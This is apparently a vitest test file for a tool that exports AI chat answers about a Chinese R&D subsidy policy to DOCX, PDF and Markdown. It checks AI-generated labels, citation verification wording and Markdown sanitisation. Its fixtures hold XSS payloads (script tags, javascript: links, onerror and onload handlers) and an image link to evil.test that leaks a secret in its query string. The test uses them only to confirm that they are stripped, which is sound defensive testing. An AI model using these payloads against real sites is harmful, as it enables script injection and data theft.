import { readFileSync } from 'node:fs';
import { buffer } from 'node:stream/consumers';
import type { MainComponents } from '@hengce/api/contract';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmTableFromMarkdown } from 'mdast-util-gfm-table';
import { gfmTable } from 'micromark-extension-gfm-table';
import { extractText, getDocumentProxy, getMeta } from 'unpdf';
import { describe, expect, it } from 'vitest';
import { fromBufferPromise } from 'yauzl';
import type { ExportedAnswer } from './answerContent';
import { type AnswerFormat, exportAnswer } from './exportAnswer';

type Message = MainComponents['schemas']['ChatMessage'];

const markdown = `预计可得后补助**61.44万元**，申报截至2026年12月31日[^1]。

## 怎么算

| 分段 | 计入金额 | 补助 |
| --- | ---: | ---: |
| 500万元（含）以下 | 500万元 | 30.00万元 |
| 500万元以上至2000万元（含） | 786万元 | 31.44万元 |

1. 先归集研发费用
2. 再申报
   - 审计报告
   - 专利证书
3. 等待拨付[^2]

> 单个企业每年度补助总额不超过200万元

\`\`\`
1286 × 4% = 51.44
\`\`\`

<script>alert(1)</script> ![漏](https://evil.test/p.png?leak=SECRET) [点我](javascript:alert(1)) [国务院](https://www.gov.cn/)`;

const citation = (n: number, rest: Partial<MainComponents['schemas']['ChatCitation']> = {}) => ({
  n,
  source: 'policy' as const,
  title: '云澜市企业研发费用后补助实施细则',
  from: '云科规〔2026〕5号',
  place: '第七条',
  policyId: 'p1',
  quote: '500万元（含）以下部分，按6%给予补助',
  check: 'verified' as const,
  ...rest,
});

const answerOf = (rest: Partial<Message> = {}): ExportedAnswer => ({
  question: { text: '去年研发费用1286万元，能拿多少后补助？什么时候截止？', quote: null },
  answer: {
    id: 'm0000002',
    parentId: 'm0000001',
    role: 'assistant',
    state: 'done',
    text: markdown,
    createdAt: '2026-11-21T02:00:00.000Z',
    siblingIds: ['m0000002'],
    model: 'deepseek-chat',
    isGenerated: true,
    citations: [citation(1), citation(2, { title: '拨付办法', place: null, quote: '', check: 'missing' })],
    figures: {
      total: 3,
      matched: 2,
      items: [
        { value: '61.44万元', kind: 'amount', status: 'missing' },
        { value: '30.00万元', kind: 'amount', status: 'matched', basis: 'rules' },
        { value: '500万元', kind: 'amount', status: 'matched', basis: 'original' },
      ],
    },
    ...rest,
  },
});
const embedded = answerOf({ isGenerated: false, model: null });

const generatedLabel = 'AI生成：本内容由AI生成，请核对原文';
const embeddedLabel = '原文摘录与规则计算，未使用大模型';
const implicit = {
  Label: '1',
  ContentProducer: '衡策',
  ProduceID: 'm0000002',
  ReservedCode1: '',
  ContentPropagator: '衡策',
  PropagateID: 'm0000002',
  ReservedCode2: '',
};

async function openDocx(bytes: Uint8Array): Promise<Record<string, string>> {
  const zip = await fromBufferPromise(Buffer.from(bytes), { lazyEntries: true });
  const parts: Record<string, string> = {};
  for await (const entry of zip.eachEntry())
    if (/\.(xml|rels)$/.test(entry.fileName))
      parts[entry.fileName] = (await buffer(await zip.openReadStreamPromise(entry))).toString('utf8');
  return parts;
}
const wordsOf = (xml = '') =>
  xml
    .replace(/<\/w:p>/g, '\n')
    .replace(/<[^>]+>/g, '')
    .replaceAll('&quot;', '"')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&amp;', '&');

async function openPdf(bytes: Uint8Array) {
  const pdf = await getDocumentProxy(new Uint8Array(bytes));
  const { text } = await extractText(pdf, { mergePages: true });
  const { info } = await getMeta(pdf);
  return {
    text: text.replace(/\s+/g, ''),
    info,
    xmp: /<\?xpacket begin[\s\S]*?<\?xpacket end/.exec(Buffer.from(bytes).toString('utf8'))?.[0],
  };
}

const exported = async (answer: ExportedAnswer, format: AnswerFormat) => (await exportAnswer(answer, format)).content;
const textOf = (bytes: Uint8Array) => new TextDecoder('utf-8', { fatal: true }).decode(bytes);

describe('标识（S23）：重新打开文件，看得见的与元数据里的都在', () => {
  it('DOCX', async () => {
    const own = await openDocx(await exported(answerOf(), 'docx'));
    expect(wordsOf(own['word/document.xml'])).toContain(generatedLabel);
    expect(wordsOf(own['word/footer1.xml'])).toContain(generatedLabel);
    const property = /<property[^>]*name="AIGC"[^>]*>.*?<vt:lpwstr>(.*?)<\/vt:lpwstr>/s.exec(
      own['docProps/custom.xml'] ?? '',
    );
    expect(JSON.parse(wordsOf(property?.[1]))).toEqual(implicit);

    const other = await openDocx(await exported(embedded, 'docx'));
    expect(wordsOf(other['word/document.xml'])).toContain(embeddedLabel);
    expect(wordsOf(other['word/document.xml'])).toContain('未接入大模型');
    expect(other['docProps/custom.xml'] ?? '').not.toContain('AIGC');
  });

  it('PDF', async () => {
    const { text, info, xmp } = await openPdf(await exported(answerOf(), 'pdf'));
    expect(text).toContain(generatedLabel);
    const custom = (info.Custom ?? {}) as Record<string, string>;
    expect(JSON.parse(custom.AIGC ?? '')).toEqual(implicit);
    const own = /xmlns:TC260="http:\/\/www\.tc260\.org\.cn\/ns\/AIGC\/1\.0\/">\s*<TC260:AIGC>(.*?)<\/TC260:AIGC>/s.exec(
      xmp ?? '',
    );
    expect(JSON.parse((own?.[1] ?? '').replaceAll('&#34;', '"'))).toEqual(implicit);

    const other = await openPdf(await exported(embedded, 'pdf'));
    expect(other.text).toContain(embeddedLabel);
    expect(JSON.stringify(other.info)).not.toContain('AIGC');
  });

  it('Markdown', async () => {
    const own = textOf(await exported(answerOf(), 'md'));
    expect(own).toContain(`> ${generatedLabel}`);
    const front = /^---\nAIGC:\n((?: {2}.*\n)+)---\n/.exec(own)?.[1] ?? '';
    const rows = front
      .trimEnd()
      .split('\n')
      .map((row) => /^ {2}(\w+): (.*)$/.exec(row) ?? []);
    expect(Object.fromEntries(rows.map(([, key = '', value = '']) => [key, JSON.parse(value)]))).toEqual(implicit);

    const other = textOf(await exported(embedded, 'md'));
    expect(other).toContain(`> ${embeddedLabel}`);
    expect(other).not.toContain('AIGC');
  });
});

describe('内容', () => {
  it('DOCX：真标题、真表格、真编号，来源带原话、位置与核对结果', async () => {
    const { 'word/document.xml': xml = '', 'word/numbering.xml': numbering = '' } = await openDocx(
      await exported(answerOf(), 'docx'),
    );
    expect(xml).toMatch(/<w:pStyle w:val="Title"\/>.*?去年研发费用1286万元/s);
    expect(xml).toMatch(/<w:pStyle w:val="Heading1"\/>(?:(?!<\/w:p>).)*回答/s);
    expect(xml).toMatch(/<w:pStyle w:val="Heading2"\/>(?:(?!<\/w:p>).)*怎么算/s);
    expect(xml.match(/<w:tbl>/g)).toHaveLength(1);
    expect(xml.match(/<w:tr>/g)).toHaveLength(3);
    expect(xml).toContain('<w:tblHeader/>');
    expect(xml).toMatch(/<w:b\/>(?:(?!<\/w:r>).)*61\.44万元/s);
    // Three items counted by Word, two bullets a level deeper, and each source with its own number.
    expect(xml.match(/<w:ilvl w:val="0"\/>/g)).toHaveLength(5);
    expect(xml.match(/<w:ilvl w:val="1"\/>/g)).toHaveLength(2);
    expect(numbering).toContain('<w:start w:val="2"/>');
    expect(xml).toContain('<w:hyperlink w:history="1" w:anchor="source1">');
    expect(xml).toMatch(/<w:bookmarkStart w:name="source1"/);
    const words = wordsOf(xml);
    expect(words).toContain('云澜市企业研发费用后补助实施细则，云科规〔2026〕5号，第七条（已核对）');
    expect(words).toContain('“500万元（含）以下部分，按6%给予补助”');
    expect(words).toContain('拨付办法，云科规〔2026〕5号（未找到）');
    expect(words).toContain('模型：deepseek-chat');
    expect(words).toContain('共3项，1项与原文一致，1项由规则计算得出');
    expect(words).toContain('共2处，1处已核对，1处未找到');
    expect(words).toContain('2026-11-21 10:00');
    expect(words).toContain('<script>alert(1)</script> ［外部图片未收入：漏］ 点我 国务院（https://www.gov.cn/）');
  });

  it.each(['docx', 'pdf', 'md'] as const)('%s：只有原文与文件说已核对，别的说出是什么', async (format) => {
    const answer = answerOf({
      citations: [
        citation(1, { digest: 'ours', confidence: 'low', verifiedAt: null }),
        citation(2, { digest: 'ours', confidence: 'medium', verifiedAt: '2026-11-20' }),
        citation(3, { digest: 'thirdParty' }),
        citation(4, { source: 'document', isEdited: true }),
        citation(5, { source: 'facts' }),
        citation(6, { source: 'rules' }),
      ],
    });
    const bytes = await exported(answer, format);
    const words =
      format === 'md'
        ? textOf(bytes)
        : format === 'pdf'
          ? (await openPdf(bytes)).text
          : wordsOf((await openDocx(bytes))['word/document.xml']);
    expect(words).not.toContain('已核对');
    for (const part of [
      '与要点一致：平台整理，尚未对照原文，把握较低',
      '与要点一致：平台整理，2026年11月20日据转述核对，尚未对照原文，可信程度中',
      '（与第三方文本一致，非官方原文）',
      '（片段已修改，非文件原文）',
      '（与企业资料一致）',
      '（由规则计算得出）',
      '共6处，2处与要点一致，1处与第三方文本一致，非官方原文，1处片段已修改，非文件原文，1处与企业资料一致，1处由规则计算得出',
    ])
      expect(words).toContain(part);
  });

  it('PDF：文字可以选取，说的与DOCX一样', async () => {
    const { text } = await openPdf(await exported(answerOf(), 'pdf'));
    for (const part of [
      '预计可得后补助61.44万元',
      '怎么算',
      '500万元以上至2000万元（含）',
      '1.先归集研发费用',
      '•审计报告',
      '1286×4%=51.44',
      '［外部图片未收入：漏］',
      '引用来源',
      '“500万元（含）以下部分，按6%给予补助”',
    ])
      expect(text).toContain(part);
  });

  it.each<[string, Partial<Message>]>([
    ['已停止，回答不完整', { state: 'stopped', finishReason: 'cancelled' }],
    ['服务重启中断，回答不完整', { state: 'interrupted', finishReason: 'interrupted' }],
    ['出错中断，回答不完整', { state: 'failed', finishReason: 'error' }],
    ['因长度限制没有写完，回答不完整', { finishReason: 'length' }],
    ['因内容限制没有写完，回答不完整', { finishReason: 'content_filter' }],
  ])('没有答完的写明：%s', async (said, rest) => {
    const { text } = await openPdf(await exported(answerOf(rest), 'pdf'));
    expect(text).toContain(`状态${said}`);
    const { 'word/document.xml': xml } = await openDocx(await exported(answerOf(rest), 'docx'));
    expect(wordsOf(xml)).toContain(`状态：${said}`);
    expect(textOf(await exported(answerOf(rest), 'md'))).toContain(`- 状态：${said}`);
  });
  it('答完的没有状态', async () => {
    expect(textOf(await exported(answerOf({ finishReason: 'stop' }), 'md'))).not.toContain('状态');
  });

  it('一段比一页长也不丢字', async () => {
    const long = Array.from({ length: 900 }, (_, index) => `第${index + 1}句话。`).join('');
    const { text } = await openPdf(await exported(answerOf({ text: `开头\n\n${long}\n\n结尾` }), 'pdf'));
    for (const part of ['第1句话。', '第450句话。', '第900句话。', '结尾']) expect(text).toContain(part);
  });
});

describe('Markdown在别的阅读器里也没有HTML、外部图片与危险的链接', () => {
  const payloads = [
    '<img src=x onerror=alert(1)>',
    '![a](https://evil.test/p.png)',
    '![a][x]\n\n[x]: https://evil.test/p.png',
    '[x]: https://evil.test/p.png\n\n![x]',
    '[a](javascript:alert(1))',
    '[a]( JaVaScRiPt:alert(1) )',
    '[a](data:text/html,<script>alert(1)</script>)',
    '<javascript:alert(1)>',
    '<div>\n\n![a](//evil.test/p.png)\n\n</div>',
    '**粗**<b onclick=alert(1)>体</b>',
    '> <iframe src=https://evil.test>',
    '- <svg onload=alert(1)>',
    '| a |\n| - |\n| <img src=x> ![b](https://evil.test/q.png) |',
    '\\<img src=x onerror=alert(1)>\\![a](https://evil.test/p.png)',
    '[![a](https://evil.test/p.png)](javascript:alert(1))',
    '<!-- --><script>alert(1)</script>',
    '标题\n===\n\n    <script>alert(1)</script>',
    '```\n<img src=x>\n```',
    '[^9]: <img src=x>\n\n[^9]',
    '&lt;img src=x onerror=alert(1)&gt;',
  ];
  const kinds = (node: { type: string; url?: string; children?: unknown[] }): string[] => [
    node.type === 'link' && /^\s*(javascript|data|vbscript):/i.test(node.url ?? '') ? 'dangerous' : node.type,
    ...(node.children ?? []).flatMap((child) => kinds(child as Parameters<typeof kinds>[0])),
  ];
  it.each(payloads)('%s', async (text) => {
    const own = textOf(await exported(answerOf({ text, isGenerated: false }), 'md'));
    const tree = fromMarkdown(own, { extensions: [gfmTable()], mdastExtensions: [gfmTableFromMarkdown()] });
    for (const kind of ['html', 'image', 'imageReference', 'dangerous']) expect(kinds(tree)).not.toContain(kind);
    expect(own.split('[^9]:').length - 1).toBe(0);
  });

  it('引用成为脚注，问题里的符号只是字', async () => {
    const answer = answerOf({ text: '见[^1]与[^7]' });
    const own = textOf(await exported({ ...answer, question: { text: '# <b>一</b>', quote: null } }, 'md'));
    expect(own).toContain('见[^1]与\\[^7\\]');
    expect(own).toContain('\n[^1]: 云澜市企业研发费用后补助实施细则');
    expect(own).toContain('# \\# \\<b\\>一\\</b\\>');
  });
});

it('文件名取自问题', async () => {
  const name = async (text: string) =>
    (await exportAnswer({ ...answerOf(), question: { text, quote: null } }, 'md')).name;
  expect(await name('我们符合高企吗')).toBe('我们符合高企吗.md');
  expect(await name('a/b:c"d\n第二行')).toBe('a b c d.md');
  expect(await name('  \n')).toBe('智能对话回答.md');
  expect([...(await name('长'.repeat(500)))].length).toBe(43);
});

it('与界面用的Markdown写法一致', () => {
  const dialect = (path: string) => {
    const source = readFileSync(new URL(path, import.meta.url), 'utf8');
    const from = source.indexOf('const removed');
    return source.slice(from, source.indexOf('/**', from)).replace(/\s+/g, ' ');
  };
  const own = dialect('./parseMarkdown.ts');
  expect(own.length).toBeGreaterThan(300);
  expect(own).toBe(dialect('../../../../../../packages/ui/src/components/StreamingMarkdown/parse/parseMarkdown.ts'));
});
